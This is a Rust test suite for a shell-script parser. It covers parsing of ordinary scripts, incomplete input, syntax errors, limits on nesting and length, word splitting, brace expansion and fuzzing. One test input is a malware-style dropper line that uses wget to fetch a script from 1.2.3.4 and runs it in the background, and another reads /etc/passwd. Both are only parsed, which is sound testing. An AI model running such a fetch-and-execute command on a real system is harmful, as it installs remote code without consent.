use std::time::Duration;

use proptest::prelude::*;

use super::word::{Operation, Parameter, Piece, expand_braces, here_document, pieces};
use super::*;

fn parsed(source: &str) -> String {
    parse(source.as_bytes(), &Limits::default()).map_or_else(|e| e.to_string(), |p| p.to_string())
}

fn fault(source: &str) -> ParseFault {
    parse(source.as_bytes(), &Limits::default()).unwrap_err()
}

fn near(token: &str, line: usize) -> ParseFault {
    ParseFault::Syntax { near: token.to_owned(), line }
}

/// Runs on a thread whose stack is what a worker thread has; an overflow aborts the test.
fn on_a_small_stack<T: Send + 'static>(work: impl FnOnce() -> T + Send + 'static) -> T {
    std::thread::Builder::new().stack_size(2 * 1024 * 1024).spawn(work).unwrap().join().unwrap()
}

#[test]
fn ordinary_scripts_become_trees() {
    for source in [
        "echo a; ls -l | wc -l && true || false",
        "for i in 1 2 3; do echo $i; done",
        "if [ -f /x ]; then cat /x; elif true; then :; else exit 1; fi",
        "case $1 in start|stop) echo x;; *) echo y;; esac",
        "f() { echo $1; }; f a",
        "(cd /tmp && rm -rf x) 2>&1 >/dev/null",
        "cat <<EOF; echo after\nbody $x\nEOF\necho done",
        "while read -r line; do echo \"$line\"; done < /etc/passwd",
        "x=$(echo \"a b\" | tr a-z A-Z) y=`id` env",
        "((i++)); [[ -f x && ! -d y ]]",
        "cd /tmp || cd /var/run || cd /mnt; wget http://1.2.3.4/a.sh; sh a.sh &",
        "echo $(case x in a) echo b;; esac)",
        "cat <<-'A' <<B\n\tone\nA\ntwo\nB",
        "echo '\n' \"\\\"\" a\\ b # comment )(",
    ] {
        let program = parse(source.as_bytes(), &Limits::default());
        assert!(program.is_ok(), "{source}: {program:?}");
    }
    assert!(parsed("a   b|c").contains("a b"));
}

#[test]
fn unfinished_scripts_ask_for_more() {
    let waits = |source| match fault(source) {
        ParseFault::Incomplete(missing) => missing,
        other => panic!("{source}: {other:?}"),
    };
    assert_eq!(waits("echo 'a"), Missing::Close('\''));
    assert_eq!(waits("echo \"a"), Missing::Close('"'));
    assert_eq!(waits("echo $(ls"), Missing::Close(')'));
    assert_eq!(waits("echo ${x"), Missing::Close('}'));
    assert_eq!(waits("echo `ls"), Missing::Close('`'));
    assert_eq!(waits("cat <<EOF\nbody"), Missing::HereDocument);
    for source in ["if true; then", "a &&", "a |", "for i in x; do", "{ ls", "(ls", "f() {"] {
        assert_eq!(waits(source), Missing::Compound, "{source}");
    }
}

#[test]
fn syntax_errors_name_the_token() {
    assert_eq!(fault("echo >"), near("newline", 1));
    assert_eq!(fault("echo )"), near(")", 1));
    assert_eq!(fault("; ls"), near(";", 1));
    assert_eq!(fault("ls ;; ls"), near(";;", 1));
    assert_eq!(fault("echo a\n| b"), near("|", 2));
    assert_eq!(fault("done"), near("done", 1));
    assert_eq!(fault("echo a(b)"), near("(", 1));
}

#[test]
fn bytes_that_are_not_utf8_come_back() {
    for bytes in [&b"\xff\xfe a \x80"[..], "\u{10FF41}\u{10FE5B}é".as_bytes(), b"\0\x01"] {
        assert_eq!(text::decode(&text::encode(bytes)), bytes);
    }
    let program = parse(b"echo \xff\xfe", &Limits::default()).unwrap();
    assert_eq!(text::decode(program.to_string().trim_end()), b"echo \xff\xfe");
}

#[test]
fn deep_nesting_is_refused_before_it_is_parsed() {
    let nesting = [
        "$(",
        "${x:-",
        "(",
        "((",
        "{ ",
        "\"$(",
        "$((",
        "if ",
        "while ",
        "until ",
        "if true; then ",
        "case x in a) ",
        "for i in a; do ",
        "! ",
        "[[ ( ",
        "[[ ! ",
        "f() { ",
        "function f ",
        "coproc ",
        "<( ",
        "echo <( ",
        "time ",
        "select x in a; do ",
        "a | { ",
        "case $(",
        "cat <<$(",
        "else if ",
        "{ { ! ( ",
        "[[ a =~ (",
        "((a[",
        "for (( ",
        "a=$(b=",
        "@(",
        "x=@(",
        "elif { ",
    ];
    for opener in nesting {
        let fault = on_a_small_stack(move || {
            let limits = Limits { bytes: 1 << 20, ..Limits::default() };
            for times in [8, 12, 16, 100] {
                drop(parse(opener.repeat(times).as_bytes(), &limits));
            }
            let source = opener.repeat(10_000);
            drop(word::pieces(&source, 16));
            drop(word::expand_braces(&source));
            parse(source.as_bytes(), &limits).err()
        });
        assert!(fault.is_some(), "{opener}");
    }
}

#[test]
fn repetition_that_is_no_nesting_survives_too() {
    for opener in [
        "`", "'\"$(", "\\$(", "a=(", "then ", "do ", "~(", "x[", "$[", "{a,", "else ", "$(<<a ",
        "<<a ",
    ] {
        on_a_small_stack(move || {
            let source = opener.repeat(10_000);
            drop(parse(source.as_bytes(), &Limits { bytes: 1 << 20, ..Limits::default() }));
            drop(word::pieces(&source, 16));
            drop(word::expand_braces(&source));
        });
    }
}

#[test]
fn closed_deep_nesting_is_refused_too() {
    for (open, close) in [
        ("(", ")"),
        ("{ ", "; }"),
        ("$(", ")"),
        ("((", "))"),
        ("if a; then ", "; fi"),
        ("\"$(", ")\""),
    ] {
        let deep = on_a_small_stack(move || {
            let source = format!("{}a;{}", open.repeat(10_000), close.repeat(10_000));
            parse(source.as_bytes(), &Limits { bytes: 1 << 20, ..Limits::default() }).err()
        });
        assert!(deep.is_some(), "{open}");
        let fine = format!("{}a;{}", open.repeat(2), close.repeat(2));
        assert!(!matches!(parse(fine.as_bytes(), &Limits::default()), Err(ParseFault::TooDeep)));
    }
}

#[test]
fn words_that_only_look_like_closers_do_not_hide_depth() {
    for trick in ["( ')' ", "if echo fi; fi=fi ", "{ echo }; ", "for fi in fi; do ", "( a\\) "] {
        let fault = on_a_small_stack(move || {
            parse(trick.repeat(3000).as_bytes(), &Limits::default()).err()
        });
        assert!(fault.is_some(), "{trick}");
    }
}

#[test]
fn the_worst_backtracking_ends_in_time() {
    let started = std::time::Instant::now();
    for depth in [4, 8, 12, 16] {
        for (open, close) in [
            ("( ", "; )"),
            ("(( ", " ))"),
            ("case x in a) ", " esac"),
            ("if a; then ", "; fi"),
            ("function f ( ) { ", "; }"),
            ("f() ( ", " )"),
            ("echo <( ", " )"),
            ("[[ ( a ", " ) ]]"),
            ("coproc a ( ", " )"),
            ("for (( ", " ))"),
        ] {
            let source = format!("{}b;c{}", open.repeat(depth), close.repeat(depth - 1));
            drop(on_a_small_stack(move || parse(source.as_bytes(), &Limits::default())));
        }
    }
    let wide = "( a; b; c; d ) ; ".repeat(2000);
    drop(parse(wide.as_bytes(), &Limits::default()));
    assert!(started.elapsed() < Duration::from_secs(20), "{:?}", started.elapsed());
}

#[test]
fn limits_on_length_hold() {
    let limits = Limits { bytes: 10, ..Limits::default() };
    assert_eq!(parse(b"echo 123456", &limits).unwrap_err(), ParseFault::TooLong);
    let many = "a ".repeat(20_000);
    assert_eq!(fault(&many), ParseFault::TooLong);
}

#[test]
fn numbers_no_descriptor_can_have_are_words() {
    assert!(parse(b"echo 99999999999999999999>x", &Limits::default()).is_ok());
    assert!(parse(b"echo 2>x", &Limits::default()).is_ok());
}

fn value(name: &str, quoted: bool) -> Piece {
    let parameter = Parameter { name: name.to_owned(), operation: Operation::Value };
    Piece::Parameter { parameter, quoted }
}

#[test]
fn words_come_apart() {
    let text = |t: &str| Piece::Text(t.to_owned());
    let quoted = |t: &str| Piece::Quoted(t.to_owned());
    assert_eq!(
        pieces("~/a'b c'\"$x y\"$1", 8).unwrap(),
        [
            Piece::Tilde(String::new()),
            text("/a"),
            quoted("b c"),
            value("x", true),
            quoted(" y"),
            value("1", false)
        ]
    );
    assert_eq!(pieces("\"\"", 8).unwrap(), [quoted("")]);
    assert_eq!(pieces("$'\\x41\\n'", 8).unwrap(), [quoted("A\n")]);
    assert_eq!(pieces("a$", 8).unwrap(), [text("a"), text("$")]);
    assert_eq!(
        pieces("$((1+(2)))", 8).unwrap(),
        [Piece::Arithmetic { expression: "1+(2)".into(), quoted: false }]
    );
    assert_eq!(
        pieces("`echo \\`id\\``", 8).unwrap(),
        [Piece::Command { source: "echo `id`".into(), quoted: false }]
    );
    assert_eq!(
        here_document("a \"$x\" \\$y\n", 8).unwrap(),
        [quoted("a \""), value("x", true), quoted("\" $y\n")]
    );
}

#[test]
fn parameter_operations_are_told_apart() {
    let operation = |source: &str| match pieces(source, 8).unwrap().remove(0) {
        Piece::Parameter { parameter, .. } => parameter.operation,
        other => panic!("{other:?}"),
    };
    assert_eq!(operation("${#x}"), Operation::Length);
    assert_eq!(operation("${#}"), Operation::Value);
    assert_eq!(
        operation("${x:-a b}"),
        Operation::Test { kind: '-', or_empty: true, word: "a b".into() }
    );
    assert_eq!(
        operation("${x##*/}"),
        Operation::Remove { suffix: false, longest: true, pattern: "*/".into() }
    );
    assert_eq!(
        operation("${x:1:2}"),
        Operation::Substring { offset: "1".into(), length: Some("2".into()) }
    );
    assert_eq!(
        operation("${x//a/b}"),
        Operation::Replace { which: Some('/'), pattern: "a".into(), with: "b".into() }
    );
    assert_eq!(operation("${x^^}"), Operation::Case { upper: true, all: true });
    assert!(matches!(operation("${a b}"), Operation::Bad(_)));
}

#[test]
fn braces_expand_and_explosions_stay_as_written() {
    assert_eq!(expand_braces("a{b,c{d,e}}f"), ["abf", "acdf", "acef"]);
    assert_eq!(expand_braces("{3..1}{a..b}"), ["3a", "3b", "2a", "2b", "1a", "1b"]);
    assert_eq!(expand_braces("${x}{}"), ["${x}{}"]);
    assert_eq!(expand_braces("'{a,b}'"), ["'{a,b}'"]);
    let bomb = "{1..99}".repeat(6);
    assert_eq!(expand_braces(&bomb), std::slice::from_ref(&bomb));
    assert_eq!(expand_braces("{1..99999999999}"), ["{1..99999999999}"]);
}

/// Pieces of shell that mutate into each other.
fn soup() -> impl Strategy<Value = Vec<u8>> {
    let atoms = prop::sample::select(vec![
        "$(",
        ")",
        "(",
        "{ ",
        "}",
        "`",
        "'",
        "\"",
        "\\",
        "\n",
        ";",
        "&&",
        "|",
        "if ",
        "then ",
        "fi ",
        "for x in ",
        "do ",
        "done ",
        "case x in ",
        "esac",
        ";;",
        "<<E",
        "<<-E",
        "\nE\n",
        ">",
        "2>&1",
        "&>",
        "<<<",
        "$((",
        "))",
        "${",
        "x=",
        "a[",
        "=(",
        "[[ ",
        " ]]",
        "! ",
        "#",
        " ",
        "echo ",
        "\t",
        "$'",
        "~",
        "99999999999>",
        "function ",
        "coproc ",
        "time ",
        "é",
        "{a,b}",
        "{1..3}",
        "\u{10FE5B}",
    ]);
    let atom = prop_oneof![
        8 => atoms.prop_map(|s| s.as_bytes().to_vec()),
        1 => prop::collection::vec(any::<u8>(), 1..4),
    ];
    prop::collection::vec(atom, 0..40).prop_map(|atoms| atoms.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 3000, ..ProptestConfig::default() })]
    #[test]
    fn no_script_panics_or_hangs(source in soup()) {
        on_a_small_stack(move || {
            drop(parse(&source, &Limits::default()));
            let word = text::encode(&source);
            drop(word::pieces(&word, 8));
            drop(word::here_document(&word, 8));
            let words = word::expand_braces(&word);
            assert!(words.iter().map(String::len).sum::<usize>() <= 1 << 20);
        });
    }

    #[test]
    fn any_bytes_survive_the_encoding(bytes in prop::collection::vec(any::<u8>(), 0..64)) {
        prop_assert_eq!(text::decode(&text::encode(&bytes)), bytes);
    }
}
